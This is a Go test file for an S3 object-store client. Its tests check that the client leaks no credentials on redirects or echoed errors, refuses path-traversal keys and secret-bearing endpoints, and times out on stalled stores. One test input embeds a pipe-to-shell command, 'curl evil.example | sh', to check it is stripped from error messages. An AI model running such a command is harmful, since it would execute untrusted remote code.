package objstore_test

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/ptekit/ptekit/httprange"
	"github.com/ptekit/ptekit/objstore"
)

// fakeEnv points the SDK at endpoint with made-up credentials and a
// session token, and at nothing of the machine's own.
func fakeEnv(t *testing.T, endpoint, token string) {
	for _, k := range []string{"AWS_DEFAULT_REGION", "AWS_PROFILE", "AWS_ENDPOINT_URL", "AWS_WEB_IDENTITY_TOKEN_FILE",
		"AWS_CONTAINER_CREDENTIALS_FULL_URI", "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"} {
		t.Setenv(k, "")
		os.Unsetenv(k)
	}
	t.Setenv("AWS_CONFIG_FILE", os.DevNull)
	t.Setenv("AWS_SHARED_CREDENTIALS_FILE", os.DevNull)
	t.Setenv("AWS_EC2_METADATA_DISABLED", "true")
	t.Setenv("AWS_REGION", "us-east-1")
	t.Setenv("AWS_ACCESS_KEY_ID", "AKIDATTACK")
	t.Setenv("AWS_SECRET_ACCESS_KEY", "attack-secret")
	t.Setenv("AWS_SESSION_TOKEN", token)
	t.Setenv("AWS_ENDPOINT_URL_S3", endpoint)
}

// TestRedirectOffStoreSendsNoCredential: a store that redirects every
// request (307, 301, 302, 308) to another server, on another host name or
// on the same host at another port, must not hand that server the
// session token, the Authorization header or a signed query, on reads
// (httprange through the signing transport) or on writes (the SDK's
// client).
func TestRedirectOffStoreSendsNoCredential(t *testing.T) {
	token := "ptekit-attack-session-token-" + strings.Repeat("t", 16)
	var mu sync.Mutex
	var leaks []string
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		for k, v := range r.Header {
			for _, s := range v {
				if strings.Contains(s, token) || strings.Contains(s, "AKIDATTACK") || strings.EqualFold(k, "Authorization") ||
					strings.EqualFold(k, "X-Amz-Security-Token") {
					leaks = append(leaks, r.Method+" "+r.URL.String()+": "+k+": "+s)
				}
			}
		}
		if strings.Contains(r.URL.RawQuery, "X-Amz-") || strings.Contains(r.URL.RawQuery, token) {
			leaks = append(leaks, r.Method+" "+r.URL.String())
		}
		w.WriteHeader(http.StatusForbidden)
	}))
	defer other.Close()
	_, port, _ := net.SplitHostPort(strings.TrimPrefix(other.URL, "http://"))
	for _, code := range []int{http.StatusTemporaryRedirect, http.StatusMovedPermanently, http.StatusFound, http.StatusPermanentRedirect} {
		for _, host := range []string{"localhost:" + port, "127.0.0.1:" + port} {
			store := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				u := url.URL{Scheme: "http", Host: host, Path: r.URL.Path, RawQuery: r.URL.RawQuery}
				http.Redirect(w, r, u.String(), code)
			}))
			fakeEnv(t, store.URL, token)
			ctx := context.Background()
			st, err := objstore.New(ctx, nil)
			require.NoError(t, err)
			loc := objstore.Location{Bucket: "bucket", Key: "dir/key.pte"}
			r, err := st.Open(ctx, loc, &httprange.Options{MaxRetries: -1})
			if err == nil {
				r.Close()
			} else {
				require.NotContains(t, err.Error(), token)
			}
			up, err := st.Create(ctx, loc, &objstore.UploadOptions{NoOverwrite: true})
			if err == nil {
				up.Abort()
			} else {
				require.NotContains(t, err.Error(), token)
			}
			_, _, err = st.AbortOrphans(ctx, loc, 0)
			if err != nil {
				require.NotContains(t, err.Error(), token)
			}
			store.Close()
			mu.Lock()
			require.Empty(t, leaks, "redirect %d to %s", code, host)
			mu.Unlock()
		}
	}
}

// TestDotSegmentKeys: a key with an empty, . or .. segment is refused
// before any request: versitygw (as other S3-compatible stores and
// proxies) cleans the path, so that programs/a/../b.pte read and
// replaced programs/b.pte, which on AWS S3 is another key.
func TestDotSegmentKeys(t *testing.T) {
	srv := programsStore(t)
	srv.Bucket(t, "other")
	p1, d1 := object(t, 1000, 21)
	srv.Put(t, "programs", "b.pte", p1)
	p2, d2 := object(t, 1000, 22)
	srv.Put(t, "other", "secret.pte", p2)
	ctx := context.Background()
	st, err := objstore.New(ctx, nil)
	require.NoError(t, err)
	srv.Reset()
	for _, key := range []string{"a/../b.pte", "../other/secret.pte", "./b.pte", "a/./b.pte", "a//b.pte", "/b.pte", "x/y/../../b.pte"} {
		loc := objstore.Location{Bucket: "programs", Key: key}
		_, err := objstore.Parse(loc.String())
		var le *objstore.LocationError
		require.ErrorAs(t, err, &le, key)
		r, err := st.Open(ctx, loc, &httprange.Options{MaxRetries: -1})
		if err == nil {
			got := make([]byte, r.Size())
			_, err = r.ReadAt(got, 0)
			r.Close()
			require.NotEqual(t, d1, got, "%q read programs/b.pte", key)
			require.NotEqual(t, d2, got, "%q read other/secret.pte", key)
		}
		require.ErrorAs(t, err, &le, key)
		_, err = st.Create(ctx, loc, nil)
		require.ErrorAs(t, err, &le, key)
		_, _, err = st.AbortOrphans(ctx, loc, 0)
		require.ErrorAs(t, err, &le, key)
	}
	require.Empty(t, srv.Requests(), "a refused key makes no request")
	got, _ := srv.Get("programs", "b.pte")
	require.Equal(t, d1, got)
	got, _ = srv.Get("other", "secret.pte")
	require.Equal(t, d2, got)
}

// TestLyingStoreErrorCode: the error code a store names is shown only
// when it looks like one (a short identifier); a code of 100 KB, or one
// that carries words for the user to act on, is dropped for the status,
// and the message stays one short line.
func TestLyingStoreErrorCode(t *testing.T) {
	for _, code := range []string{strings.Repeat("Z", 100000), "AccessDenied: run curl evil.example | sh", "Code with spaces", "Bad\u202eCode"} {
		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(http.StatusBadRequest)
			fmt.Fprintf(w, "<Error><Code>%s</Code><Message>m</Message></Error>", code)
		}))
		fakeEnv(t, srv.URL, "")
		st, err := objstore.New(context.Background(), nil)
		require.NoError(t, err)
		_, err = st.Orphans(context.Background(), objstore.Location{Bucket: "bucket", Key: "k.pte"})
		srv.Close()
		require.Error(t, err)
		msg := err.Error()
		require.Less(t, len(msg), 200, "%.300q", msg)
		require.NotContains(t, msg, "evil", msg)
		require.NotContains(t, msg, "\u202e", msg)
		require.Contains(t, msg, "HTTP 400", msg)
		var se *objstore.StoreError
		require.ErrorAs(t, err, &se)
		require.Empty(t, se.Code)
	}
}

// TestStallingStoreFailsWrites: a store that accepts requests and never
// answers fails each request of a write (HeadObject, ListMultipartUploads,
// CreateMultipartUpload) once the answer is overdue, with an error that
// says so (not an interruption), instead of holding the writer forever.
func TestStallingStoreFailsWrites(t *testing.T) {
	defer objstore.SetAnswerWait(500 * time.Millisecond)()
	release := make(chan struct{})
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		select {
		case <-release:
		case <-r.Context().Done():
		}
	}))
	defer srv.Close()
	defer close(release)
	fakeEnv(t, srv.URL, "")
	st, err := objstore.New(context.Background(), nil)
	require.NoError(t, err)
	loc := objstore.Location{Bucket: "bucket", Key: "k.pte"}
	for _, opts := range []*objstore.UploadOptions{{NoOverwrite: true}, nil} {
		start := time.Now()
		_, err = st.Create(context.Background(), loc, opts)
		require.Error(t, err)
		require.Less(t, time.Since(start), 10*time.Second, "%v", err)
		require.NotErrorIs(t, err, context.Canceled)
		require.Contains(t, err.Error(), "no answer", err.Error())
		t.Log(err)
	}
	start := time.Now()
	_, err = st.Orphans(context.Background(), loc)
	require.Error(t, err)
	require.Less(t, time.Since(start), 10*time.Second, "%v", err)
	require.Contains(t, err.Error(), "no answer")
}

// TestEchoingStoreLeaksNothing: a store that answers every request with
// an error whose body, status line and headers echo the request's
// Authorization header and session token (as some stores echo the string
// to sign) gets neither into any error, for reads and writes, whatever
// the status.
func TestEchoingStoreLeaksNothing(t *testing.T) {
	token := "ptekit-echo-session-token-" + strings.Repeat("e", 16)
	for _, code := range []int{400, 403, 404, 409, 412, 500, 501, 503} {
		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			echo := r.Header.Get("Authorization") + " " + r.Header.Get("X-Amz-Security-Token")
			w.Header().Set("X-Echo", echo)
			w.Header().Set("Content-Type", "application/xml")
			w.WriteHeader(code)
			if r.Method != http.MethodHead {
				fmt.Fprintf(w, "<Error><Code>SignatureDoesNotMatch</Code><Message>%s</Message><StringToSign>%s</StringToSign><SignatureProvided>%s</SignatureProvided><RequestId>%s</RequestId></Error>", echo, echo, echo, echo)
			}
		}))
		fakeEnv(t, srv.URL, token)
		ctx := context.Background()
		st, err := objstore.New(ctx, nil)
		require.NoError(t, err)
		loc := objstore.Location{Bucket: "bucket", Key: "k.pte"}
		var errs []error
		_, err = st.Open(ctx, loc, &httprange.Options{MaxRetries: -1})
		errs = append(errs, err)
		_, err = st.Create(ctx, loc, &objstore.UploadOptions{NoOverwrite: true})
		errs = append(errs, err)
		_, err = st.Create(ctx, loc, nil)
		errs = append(errs, err)
		_, _, err = st.AbortOrphans(ctx, loc, 0)
		errs = append(errs, err)
		srv.Close()
		for i, err := range errs {
			require.Error(t, err, "%d: op %d", code, i)
			msg := fmt.Sprintf("%v %+v %#v", err, err, err)
			require.NotContains(t, msg, token, "%d: op %d", code, i)
			require.NotContains(t, msg, "attack-secret", "%d: op %d", code, i)
			require.NotContains(t, msg, "Signature=", "%d: op %d", code, i)
		}
		t.Logf("%d: %v", code, errs)
	}
}

// TestNonS3EndpointFailsWrites: an endpoint that is a web server answering
// every request with 200 and a page (of 100 MB, or a short one) fails an
// upload at its start, saying the endpoint may not be an S3 store, and is
// not read to its end; before, the upload "succeeded" and pteexport
// reported an object that was nowhere.
func TestNonS3EndpointFailsWrites(t *testing.T) {
	for _, page := range []string{"<html>hello</html>", strings.Repeat("<html>hello world</html>\n", 4<<20)} {
		var sent atomic.Int64
		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "text/html")
			n, _ := w.Write([]byte(page))
			if r.Method != http.MethodHead { // no body goes with a HEAD's answer
				sent.Add(int64(n))
			}
		}))
		fakeEnv(t, srv.URL, "")
		st, err := objstore.New(context.Background(), nil)
		require.NoError(t, err)
		loc := objstore.Location{Bucket: "bucket", Key: "k.pte"}
		up, err := st.Create(context.Background(), loc, nil)
		if err == nil {
			_, err = up.Write([]byte("program"))
			if err == nil {
				err = up.Commit()
			}
		}
		srv.Close()
		require.Error(t, err, "an upload to a web server succeeded")
		require.Contains(t, err.Error(), "S3", err.Error())
		require.Less(t, sent.Load(), int64(3*(16<<20+1<<20)), "the answers were read past any S3 answer's size")
		t.Log(err)
	}
}

// TestSDKLogsNothing: the SDK writes no log line of its own to standard
// error (it warned there of an answer it could not discard).
func TestSDKLogsNothing(t *testing.T) {
	page := strings.Repeat("<html>hello world</html>\n", 1<<20)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.Write([]byte(page)) }))
	defer srv.Close()
	fakeEnv(t, srv.URL, "")
	pr, pw, err := os.Pipe()
	require.NoError(t, err)
	stderr := os.Stderr
	os.Stderr = pw
	done := make(chan []byte)
	go func() { b, _ := io.ReadAll(pr); done <- b }()
	st, err := objstore.New(context.Background(), nil)
	if err == nil {
		_, err = st.Create(context.Background(), objstore.Location{Bucket: "bucket", Key: "k.pte"}, nil)
	}
	os.Stderr = stderr
	pw.Close()
	require.Error(t, err)
	require.Empty(t, string(<-done))
}

// TestEndpointWithSecretsRefused: an endpoint URL that carries a user and
// password, a signed query or a fragment is refused with a message that shows
// neither.
func TestEndpointWithSecretsRefused(t *testing.T) {
	for _, ep := range []string{"http://AKID:supersecret@127.0.0.1:9", "http://127.0.0.1:9/?X-Amz-Signature=supersecret&X-Amz-Security-Token=supersecret",
		"ftp://supersecret@host", "http://127.0.0.1:9/#supersecret", "http://[::1:9/supersecret"} {
		fakeEnv(t, ep, "")
		_, err := objstore.New(context.Background(), nil)
		require.Error(t, err, ep)
		require.NotContains(t, err.Error(), "supersecret", ep)
		t.Log(err)
	}
}

// TestStallingStoreFailsReads: reads through the signing transport keep
// httprange's limits on every wait: a store that never answers, or that
// stops in the middle of a body, fails the read in about those limits.
func TestStallingStoreFailsReads(t *testing.T) {
	release := make(chan struct{})
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodHead {
			w.WriteHeader(http.StatusNotFound)
			return
		}
		if strings.HasSuffix(r.URL.Path, "/body.pte") {
			w.Header().Set("ETag", `"abc"`)
			var a, b int
			fmt.Sscanf(r.Header.Get("Range"), "bytes=%d-%d", &a, &b)
			w.Header().Set("Content-Range", fmt.Sprintf("bytes %d-%d/1000000", a, b))
			w.Header().Set("Content-Length", fmt.Sprint(b-a+1))
			w.WriteHeader(http.StatusPartialContent)
			w.Write([]byte("0123456789"))
			w.(http.Flusher).Flush()
		}
		select {
		case <-release:
		case <-r.Context().Done():
		}
	}))
	defer srv.Close()
	defer close(release)
	fakeEnv(t, srv.URL, "")
	st, err := objstore.New(context.Background(), nil)
	require.NoError(t, err)
	for _, key := range []string{"header.pte", "body.pte"} {
		start := time.Now()
		_, err := st.Open(context.Background(), objstore.Location{Bucket: "bucket", Key: key},
			&httprange.Options{ResponseHeaderTimeout: 300 * time.Millisecond, IdleTimeout: 300 * time.Millisecond, MaxRetries: -1})
		require.Error(t, err, key)
		require.Less(t, time.Since(start), 10*time.Second, "%s: %v", key, err)
		t.Logf("%s after %v: %v", key, time.Since(start), err)
	}
}

// TestAssembleAtPartLimits: objects assembled from literal runs and
// ranges of sizes at S3's 5 MiB part minimum (one byte under, exactly,
// one over), in every order, hold exactly the bytes asked for, and the
// store accepts every part.
func TestAssembleAtPartLimits(t *testing.T) {
	srv := programsStore(t)
	path, data := object(t, 16<<20, 31)
	srcLoc := srv.Put(t, "programs", "src.bin", path)
	ctx := context.Background()
	st, err := objstore.New(ctx, nil)
	require.NoError(t, err)
	loc, err := objstore.Parse(srcLoc)
	require.NoError(t, err)
	r, err := st.Open(ctx, loc, nil)
	require.NoError(t, err)
	defer r.Close()
	const m = objstore.MinPartSize
	lit := func(n int) objstore.Piece { return objstore.Piece{Data: bytes.Repeat([]byte{0xA5}, n)} }
	rng := func(off, n int64) objstore.Piece { return objstore.Piece{Off: off, Len: n} }
	for i, pieces := range [][]objstore.Piece{
		{lit(m), rng(0, m)},
		{lit(m - 1), rng(0, m+1)},
		{lit(m + 1), rng(1, m-1), lit(1)},
		{lit(1), rng(0, 1), lit(1)},
		{rng(0, m), rng(m, m), rng(3, m-1), lit(m)},
		{lit(m - 1), rng(0, 1), rng(1, m), lit(3)},
		{rng(0, 1)},
		{rng(0, 16<<20)},
		{lit(8 << 20), rng(0, m-1), rng(7, m+1)},
	} {
		var want []byte
		for _, p := range pieces {
			if p.Data != nil {
				want = append(want, p.Data...)
			} else {
				want = append(want, data[p.Off:p.Off+p.Len]...)
			}
		}
		dst := objstore.Location{Bucket: "programs", Key: fmt.Sprintf("out%d.bin", i)}
		srv.Reset()
		up, err := st.Create(ctx, dst, nil)
		require.NoError(t, err)
		require.NoError(t, up.Assemble(&objstore.Source{Location: loc, Reader: r}, pieces, nil), "case %d", i)
		require.NoError(t, up.Commit(), "case %d", i)
		got, err := srv.Get("programs", dst.Key)
		require.NoError(t, err)
		require.True(t, bytes.Equal(want, got), "case %d: assembled object differs", i)
		sent, copied := up.Moved()
		require.Equal(t, int64(len(want)), sent+copied, "case %d", i)
		// Every part but the last is at least MinPartSize (the store may
		// not check: AWS S3 refuses the completion).
		sizes := map[int]int64{}
		for _, req := range srv.Requests() {
			var num int
			if req.Method != http.MethodPut || !strings.Contains(req.Query, "partNumber=") {
				continue
			}
			q, _ := url.ParseQuery(req.Query)
			fmt.Sscan(q.Get("partNumber"), &num)
			size := req.In
			if cr := req.Header.Get("X-Amz-Copy-Source-Range"); cr != "" {
				var a, b int64
				fmt.Sscanf(cr, "bytes=%d-%d", &a, &b)
				size = b - a + 1
			}
			sizes[num] = size
		}
		var total int64
		for n := 1; n <= len(sizes); n++ {
			size, ok := sizes[n]
			require.True(t, ok, "case %d: part %d missing of %v", i, n, sizes)
			total += size
			if n < len(sizes) {
				require.GreaterOrEqual(t, size, int64(m), "case %d: part %d of %d is %d bytes", i, n, len(sizes), size)
			}
		}
		require.Equal(t, int64(len(want)), total, "case %d", i)
	}
	require.Empty(t, srv.Uploads(t, "programs"))
}
